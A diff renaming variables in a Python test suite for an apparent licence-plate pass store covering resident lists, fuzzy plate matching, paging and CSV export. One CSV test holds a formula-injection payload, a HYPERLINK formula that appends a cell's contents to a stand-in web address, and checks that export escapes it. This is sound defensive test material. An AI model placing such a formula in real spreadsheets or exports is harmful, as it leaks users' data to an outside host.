@@ -72,7 +72,7 @@ changes = (
     | st.builds(make_again, names, st.lists(texts, min_size=1, max_size=2))
     | st.builds(replace_all, names, st.lists(texts, max_size=2))
     | st.tuples(names, st.sampled_from(["", "for the gate"])).map(
-        lambda drawn: lambda store: store.lists.save(*drawn, None)
+        lambda arguments: lambda store: store.lists.save(*arguments, None)
     )
     | texts.map(lambda text: lambda store: store.delete_plate(text, REQUESTER, entries=True))
 )
@@ -102,13 +102,13 @@ def test_after_any_changes_the_lists_in_memory_are_those_of_the_database(
         tempfile.TemporaryDirectory() as folder,
         closing(open_copy(sqlite_template, Path(folder))) as store,
     ):
-        kept = ListLookup()
-        for changed in steps:
-            for change in changed:
+        lookup = ListLookup()
+        for step_changes in steps:
+            for change in step_changes:
                 change(store)
-            store.refresh(kept)
-            loaded = {one.name: one.exact for one in kept.named(NAMES)}
-            assert loaded == stored_entries(store)
+            store.refresh(lookup)
+            entries = {loaded_list.name: loaded_list.exact for loaded_list in lookup.named(NAMES)}
+            assert entries == stored_entries(store)
 
 
 def test_a_list_of_a_restored_backup_is_read_again(
@@ -127,8 +127,8 @@ def test_a_list_of_a_restored_backup_is_read_again(
         store = opening("", folder)
         store.lists.put("residents", [ListEntry(text)])
         store.refresh(lookup)
-    (loaded,) = lookup.named(["residents"])
-    assert [*loaded.exact] == ["M456OP199"]
+    (loaded_list,) = lookup.named(["residents"])
+    assert [*loaded_list.exact] == ["M456OP199"]
 
 
 def test_an_error_leaves_the_lists_as_they_were(store: PassStore) -> None:
@@ -137,10 +137,10 @@ def test_an_error_leaves_the_lists_as_they_were(store: PassStore) -> None:
     store.refresh(lookup)
     before = lookup.revisions
     with (
-        closing(sa.create_engine("sqlite://").connect()) as broken,
+        closing(sa.create_engine("sqlite://").connect()) as connection,
         pytest.raises(sa.exc.OperationalError),
     ):
-        lookup.refresh(broken)
+        lookup.refresh(connection)
     assert lookup.revisions == before
 
 
@@ -168,28 +168,32 @@ def test_a_text_matches_the_nearest_valid_entry(
     entries: list[ListEntry], text: str, hit: tuple[str, int] | None
 ) -> None:
     exact = {entry.text: entry for entry in entries}
-    loaded = LoadedList(1, "residents", 1, exact, tuple(entry for entry in entries if entry.edits))
-    found = loaded.match(text, NOW_S)
-    assert (found and (found.entry.text, found.edits)) == hit
+    fuzzy = tuple(entry for entry in entries if entry.edits)
+    best_hit = LoadedList(1, "residents", 1, exact, fuzzy).match(text, NOW_S)
+    assert (best_hit and (best_hit.entry.text, best_hit.edits)) == hit
 
 
 short_texts = st.text("AB1", max_size=9)
 
 
 @quick
-@given(known=st.lists(st.tuples(short_texts, st.integers(0, 2)), max_size=12), text=short_texts)
+@given(
+    known_texts=st.lists(st.tuples(short_texts, st.integers(0, 2)), max_size=12), text=short_texts
+)
 def test_the_texts_within_their_edits_are_found_nearest_first(
-    known: list[tuple[str, int]], text: str
+    known_texts: list[tuple[str, int]], text: str
 ) -> None:
-    edits = [Levenshtein.distance(one, text) for one, _ in known]
-    near = sorted((edits[at], at) for at, (_, most) in enumerate(known) if edits[at] <= most)
-    found = SimilarTexts([one for one, _ in known], [most for _, most in known]).find(text)
-    assert found == [(at, distance) for distance, at in near]
+    edits = [Levenshtein.distance(known_text, text) for known_text, _ in known_texts]
+    near = sorted((edits[at], at) for at, (_, most) in enumerate(known_texts) if edits[at] <= most)
+    places = SimilarTexts(
+        [known_text for known_text, _ in known_texts], [most for _, most in known_texts]
+    ).find(text)
+    assert places == [(at, distance) for distance, at in near]
 
 
 def test_no_table_of_sqlite_gives_a_number_twice(opening: Callable[..., PassStore]) -> None:
     with opening().writer.database.reading() as connection:
-        created = dict(connection.exec_driver_sql("SELECT name, sql FROM sqlite_schema").all())
+        statements = dict(connection.exec_driver_sql("SELECT name, sql FROM sqlite_schema").all())
     by_database = {
         table.name
         for table in METADATA.sorted_tables
@@ -198,7 +202,7 @@ def test_no_table_of_sqlite_gives_a_number_twice(opening: Callable[..., PassStor
     }
     by_database -= {"picture_rounds"}  # it has one row
     assert {"passes", "lists", "deliveries", "searches", "gate_openings"} <= by_database
-    assert [name for name in by_database if "AUTOINCREMENT" not in created[name]] == []
+    assert [name for name in by_database if "AUTOINCREMENT" not in statements[name]] == []
 
 
 CSV = """text,note,valid_from,valid_until,edits
@@ -208,7 +212,7 @@ B777BB77,,,,0
 
 
 @pytest.fixture
-def listed(store: PassStore) -> PassStore:
+def listed_store(store: PassStore) -> PassStore:
     """Return a store with an empty list, which the camera `gate` looks up."""
     store.lists.create("residents")
     store.configure([Camera("gate", "rtsp://gate", lists=("residents",))])
@@ -224,38 +228,38 @@ def listed(store: PassStore) -> PassStore:
     ],
 )
 def test_a_pass_hits_an_entry_that_is_there_when_it_is_written(
-    listed: PassStore, entry: ListEntry, is_hit: bool
+    listed_store: PassStore, entry: ListEntry, is_hit: bool
 ) -> None:
-    listed.write([make_event("before")], [])
-    listed.lists.put("residents", [entry])
-    listed.write([make_event("a")], [])
-    listed.lists.remove("residents", entry.text)
-    listed.write([make_event("after")], [])
-    assert find_ids(listed, PassQuery(list_name="residents")) == ["a"] * is_hit
+    listed_store.write([make_event("before")], [])
+    listed_store.lists.put("residents", [entry])
+    listed_store.write([make_event("a")], [])
+    listed_store.lists.remove("residents", entry.text)
+    listed_store.write([make_event("after")], [])
+    assert find_ids(listed_store, PassQuery(list_name="residents")) == ["a"] * is_hit
 
 
-def test_a_csv_file_returns_as_it_came_and_a_note_is_no_formula(listed: PassStore) -> None:
-    assert listed.lists.import_csv("residents", CSV) == 2
-    assert "".join(listed.lists.export_csv("residents", REQUESTER)) == CSV
+def test_a_csv_file_returns_as_it_came_and_a_note_is_no_formula(listed_store: PassStore) -> None:
+    assert listed_store.lists.import_csv("residents", CSV) == 2
+    assert "".join(listed_store.lists.export_csv("residents", REQUESTER)) == CSV
     entry = ListEntry("A123BC77", '=HYPERLINK("http://site/?"&A1)')
-    listed.lists.put("residents", [entry])
-    file = "".join(listed.lists.export_csv("residents", REQUESTER))
+    listed_store.lists.put("residents", [entry])
+    file = "".join(listed_store.lists.export_csv("residents", REQUESTER))
     assert file.splitlines()[1].startswith("A123BC77,\"'=HYPERLINK")
-    listed.lists.import_csv("residents", file, replacing=True)
-    assert listed.lists.entries("residents", EVERYTHING)[0] == entry
+    listed_store.lists.import_csv("residents", file, replacing=True)
+    assert listed_store.lists.entries("residents", EVERYTHING)[0] == entry
 
 
-def test_a_list_is_created_once(listed: PassStore) -> None:
+def test_a_list_is_created_once(listed_store: PassStore) -> None:
     with pytest.raises(StoreError, match="already"):
-        listed.lists.create("residents")
-    assert listed.lists.names() == ["residents"]
+        listed_store.lists.create("residents")
+    assert listed_store.lists.names() == ["residents"]
 
 
 A1, A2, B1, B2 = "A000177", "A000277", "B000177", "B000277"
 
 
 @pytest.mark.parametrize(
-    ("query", "found", "cursor"),
+    ("query", "texts", "cursor"),
     [
         pytest.param({"limit": 2}, [A1, A2], A2, id="first page"),
         pytest.param({"limit": 2, "cursor": A2}, [B1, B2], "", id="last page"),
@@ -266,13 +270,13 @@ A1, A2, B1, B2 = "A000177", "A000277", "B000177", "B000277"
     ],
 )
 def test_entries_come_in_pages(
-    store: PassStore, query: dict[str, Any], found: list[str], cursor: str
+    store: PassStore, query: dict[str, Any], texts: list[str], cursor: str
 ) -> None:
     store.lists.create("residents")
     entries = [ListEntry(A1), ListEntry(A2, "дом 5"), ListEntry(B1), ListEntry(B2)]
     store.lists.put("residents", entries)
     page = store.lists.page("residents", EntryQuery(**query), EVERYTHING)
-    assert ([entry.text for entry in page.entries], page.cursor) == (found, cursor)
+    assert ([entry.text for entry in page.entries], page.cursor) == (texts, cursor)
 
 
 @pytest.mark.parametrize(
